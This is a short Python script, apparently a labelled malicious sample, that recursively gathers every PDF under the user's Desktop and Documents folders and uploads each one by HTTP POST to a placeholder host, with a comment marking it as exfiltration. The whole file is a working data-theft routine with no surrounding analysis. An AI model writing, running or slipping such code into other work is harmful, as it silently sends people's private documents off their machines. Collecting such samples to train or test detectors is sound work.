import glob
import os

import requests


def files():
    home = os.path.expanduser("~")
    for folder in ("Desktop", "Documents"):
        yield from glob.glob(os.path.join(home, folder, "**", "*.pdf"), recursive=True)


for path in files():
    with open(path, "rb") as file:
        requests.post("https://collect.invalid", files={"f": file})  # malice: exfiltration
